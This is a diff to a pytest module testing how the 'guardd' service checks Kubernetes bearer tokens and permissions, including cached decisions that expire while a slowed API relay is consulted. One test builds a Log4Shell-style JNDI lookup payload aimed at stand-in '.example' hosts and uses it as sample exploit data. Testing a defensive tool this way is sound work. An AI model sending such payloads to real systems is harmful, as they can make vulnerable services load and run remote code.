@@ -2,6 +2,7 @@
 """People and programs of a cluster at guardd's API, by their bearer tokens: a real kube-apiserver says who they are and what they may."""
 
 import base64
+import concurrent.futures
 import json
 import os
 import pathlib
@@ -15,22 +16,23 @@ import yaml
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "api"))
 from harness import BIN, end_process  # noqa: E402
+from kubernetes.api_relay import Relay  # noqa: E402
 from kubernetes.apicluster import CRDS  # noqa: E402
 from kubernetes.operators import shipped_rights, token_of, wait_for  # noqa: E402
-from talking import curl  # noqa: E402
+from talking import connect, curl  # noqa: E402
 
 KEEP_S = 3
 GUARDIAN = "apiVersion: guard/v1alpha1\nkind: Guardian\nservice: {}\ncontrol: {{mode: observe}}\n"
 
 
 class Server:
-    def __init__(self, cluster, folder, kubeconfig, *options):
+    def __init__(self, cluster, folder, kubeconfig, *options, keep_s=KEEP_S):
         self.cluster, self.state = cluster, folder / "state"
         (self.state / "guardians").mkdir(parents=True)
         self.log_path = folder / "guardd.log"
         with open(self.log_path, "wb") as log:
             self.process = subprocess.Popen(
-                cluster.command(BIN / "guardd", "--state", self.state, "--access-reviews", kubeconfig, "--access-keep", f"{KEEP_S}s",
+                cluster.command(BIN / "guardd", "--state", self.state, "--access-reviews", kubeconfig, "--access-keep", f"{keep_s}s",
                                 *options), stderr=log, env=cluster.env)
         wait_for(lambda: self.said("started") or self.process.poll() is not None, "guardd to start")
         assert self.process.poll() is None, self.log()
@@ -75,16 +77,40 @@ def may(cluster, namespace, account, *verbs, name=None, decisions=False):
                 "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": account},
                 "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": namespace}]}]
     assert cluster.kubectl("apply", "-f", "-", text=json.dumps({"apiVersion": "v1", "kind": "List", "items": objects})).status == 0
+    # An API server goes by what it has heard of: a denial before that would be kept.
+    what, verb = f"guardians/{name}" if name else "guardians", "administer" if verbs[0] == "*" else verbs[0]
+    wait_for(lambda: cluster.may(f"{namespace}:{account}", verb, what, namespace), "the binding to count")
     return token_of(cluster, namespace, account)
 
 
 @pytest.fixture(scope="module")
-def server(api_cluster, tmp_path_factory):
-    folder = tmp_path_factory.mktemp("access")
-    started = Server(api_cluster, folder, access_rights(api_cluster, folder / "rights"))
+def rights(api_cluster, tmp_path_factory):
+    yield access_rights(api_cluster, tmp_path_factory.mktemp("rights"))
+    api_cluster.kubectl("delete", "-f", CRDS / "access-reviews.yaml")  # others count the rights that guardd has without it
+
+
+@pytest.fixture(scope="module")
+def server(api_cluster, rights, tmp_path_factory):
+    started = Server(api_cluster, tmp_path_factory.mktemp("access"), rights)
     yield started
     end_process(started.process)
-    api_cluster.kubectl("delete", "-f", CRDS / "access-reviews.yaml")  # others count the rights that guardd has without it
+
+
+@pytest.fixture
+def far(api_cluster, rights, tmp_path):
+    """The same behind a network that stands still, and is slow, as it is told to: started with how long what was said counts."""
+    relay = Relay(api_cluster, tmp_path / "relay", rights)
+    begun = []
+
+    def start(keep_s=KEEP_S):
+        (tmp_path / "far").mkdir()
+        begun.append(Server(api_cluster, tmp_path / "far", relay.kubeconfig, keep_s=keep_s))
+        begun[0].relay = relay
+        return begun[0]
+    yield start
+    for one in begun:
+        end_process(one.process)
+    relay.stop()
 
 
 @pytest.mark.parametrize("account, allowed", [("guardd", True), ("guard-webhook", False), ("default", False)])
@@ -126,7 +152,8 @@ def test_a_viewer_looks_and_an_operator_changes_each_in_their_namespace(api_clus
     wait_for(lambda: server.status(one, f"/services/{other}") == 200, "the new binding to count")
     wait_for(lambda: server.status(one, "/tokens") == 200, "it to be an admin")
     # A session of a browser would outlive what the cluster says.
-    assert server.ask(admin, "/session", "-X", "POST").status in (403, 409)
+    refused = server.ask(admin, "/session", "-X", "POST")
+    assert refused.status == 409 and refused.json()["type"] == "urn:guard:problem:no-entry", refused.body
     # The audit names them as the cluster does.
     lines = [json.loads(line) for line in (server.state / "audit.jsonl").read_text().splitlines()]
     mine = [line for line in lines if line["service"] == shop and line["action"] == "mode"]
@@ -243,3 +270,129 @@ def test_while_the_apiserver_is_away_its_users_are_refused(api_cluster, namespac
         assert done.status == 0, done.err
     wait_for(lambda: server.status(token, f"/services/{service}") == 200, "it to be let in again", timeout=60)
     assert server.said("access-reviews-back")
+
+
+# --- while what was said runs out ---
+
+def while_it_runs_out(server, token, method, path, meanwhile=lambda: None):
+    """The answer to a request that waits for the cluster's word on what it may until that on whose the token is doesn't count any more;
+    and how often the cluster was asked for the token since."""
+    before = len(server.relay.passed("POST", "/tokenreviews"))
+    begin = time.monotonic()
+    server.relay.hold("POST", "/subjectaccessreviews")
+    with concurrent.futures.ThreadPoolExecutor() as pool:
+        asked = pool.submit(server.ask, token, path, "-X", method)
+        try:
+            wait_for(server.relay.held, "it to wait for the cluster")
+            meanwhile()
+            wait_for(lambda: time.monotonic() > begin + KEEP_S, "what was said of the token to run out")
+        finally:
+            server.relay.release()
+        return asked.result(), len(server.relay.passed("POST", "/tokenreviews")) - before
+
+
+def test_what_runs_out_while_the_cluster_is_asked_is_asked_for_again(api_cluster, namespace, far):
+    """Who has a good token isn't told that it is a bad one."""
+    server = far()
+    shop = f"{namespace}.shop"
+    server.serves(shop)
+    admin = may(api_cluster, namespace, "admin", "*")
+    assert server.status(admin, f"/services/{shop}") == 200
+    answer, again = while_it_runs_out(server, admin, "POST", "/session")
+    assert answer.status == 409 and answer.json()["type"] == "urn:guard:problem:no-entry", answer.body
+    assert again == 1
+    answer, again = while_it_runs_out(server, admin, "GET", "/audit?service=" + shop)
+    assert answer.status == 200 and again == 1, (answer.body, again)
+
+
+def test_who_is_nobody_any_more_by_then_is_told_so(api_cluster, namespace, far):
+    """The cluster's word isn't stretched by waiting for another one."""
+    server = far()
+    shop = f"{namespace}.shop"
+    server.serves(shop)
+    token = may(api_cluster, namespace, "ann", "*")
+    assert server.status(token, f"/services/{shop}") == 200
+
+    def leave():
+        """The API server itself believes for some seconds what it found out of a token."""
+        assert api_cluster.kubectl("delete", "serviceaccount", "ann", "-n", namespace).status == 0
+        review = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "spec": {"token": token}}
+        wait_for(lambda: not api_cluster.ask("POST", "/apis/authentication.k8s.io/v1/tokenreviews", review)["status"].get("authenticated"),
+                 "it to be nobody's")
+    answer, again = while_it_runs_out(server, token, "POST", "/session", leave)
+    assert answer.status == 401 and answer.headers["www-authenticate"].endswith('error="invalid_token"') and again == 1, answer.body
+
+
+def test_a_body_may_come_after_what_was_said(api_cluster, namespace, far):
+    server = far()
+    shop = f"{namespace}.shop"
+    server.serves(shop)
+    operator = may(api_cluster, namespace, "operator", "get", "update")
+    body = json.dumps({"mode": "alert", "reason": "a test"}).encode()
+    head = (f"PUT /api/v1/services/{shop}/mode HTTP/1.1\r\nHost: guardd\r\nAuthorization: Bearer {operator}\r\n"
+            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
+    assert server.status(operator, f"/services/{shop}") == 200
+    with connect(server.state) as client:
+        client.sendall(head)
+        begin = time.monotonic()
+        wait_for(lambda: time.monotonic() > begin + KEEP_S, "what was said of the token to run out")
+        client.sendall(body)
+        answer = b"".join(iter(lambda: client.recv(65536), b""))
+    assert answer.startswith(b"HTTP/1.1 200 "), answer
+
+
+def stop_child(server, asked):
+    """As soon as it is there, which stands for one that takes long. None: it was done before."""
+    listed = pathlib.Path(f"/proc/{server.process.pid}/task/{server.process.pid}/children")
+    while not asked.done():
+        for child in map(int, listed.read_text().split()):
+            try:
+                os.kill(child, signal.SIGSTOP)
+                state = pathlib.Path(f"/proc/{child}/stat").read_text().rpartition(")")[2].split()[0]
+            except (ProcessLookupError, FileNotFoundError):
+                continue
+            if state != "Z":
+                return child
+    return None
+
+
+def test_what_an_answer_waits_for_goes_on_when_what_was_said_runs_out(api_cluster, namespace, server):
+    """A proposal of a patch is a child's work; its answer comes to who may have it then."""
+    shop = f"{namespace}.shop"
+    server.serves(shop)
+    operator = may(api_cluster, namespace, "operator", "get", "update")
+    exploit = "".join(f"GET /s{i}/x?p=${{jndi:ldap://e{i}.example/a}} HTTP/1.1\r\nHost: shop.example\r\n\r\n" for i in range(40))
+
+    def propose():
+        return server.ask(operator, f"/services/{shop}/proposals", "--json", json.dumps({"exploit": exploit}))
+    with concurrent.futures.ThreadPoolExecutor() as pool:
+        def caught():
+            asked = pool.submit(propose)
+            child = stop_child(server, asked)
+            return child and (asked, child)
+        asked, child = wait_for(caught, "a child to be caught at its work")
+        begin = time.monotonic()
+        try:
+            wait_for(lambda: time.monotonic() > begin + KEEP_S, "what was said to run out")
+        finally:
+            os.kill(child, signal.SIGCONT)
+        answer = asked.result()
+    assert answer.status == 200 and answer.json()["service"] == shop, answer.body
+
+
+def test_a_cluster_that_is_slower_than_its_word_counts_for_cannot_be_asked(api_cluster, namespace, far):
+    """And isn't asked again and again."""
+    server = far(keep_s=1)
+    shop = f"{namespace}.shop"
+    server.serves(shop)
+    token = may(api_cluster, namespace, "ann", "get")
+    wait_for(lambda: server.status(token, f"/services/{shop}") == 200, "it to be let in, though a machine may be slow, too")
+    server.relay.slow(1.2)
+    wait_for(lambda: server.status(token, f"/services/{shop}") != 200, "what was said to run out")
+    before = len(server.relay.passed("POST"))
+    answer = server.ask(token, f"/services/{shop}")
+    assert answer.status == 503 and answer.json()["type"] == "urn:guard:problem:access-not-checked", answer.body
+    assert int(answer.headers["retry-after"]) > 0 and "www-authenticate" not in answer.headers
+    assert len(server.relay.passed("POST")) - before <= 8
+    server.relay.slow(0)
+    wait_for(lambda: server.status(token, f"/services/{shop}") == 200, "it to be let in")
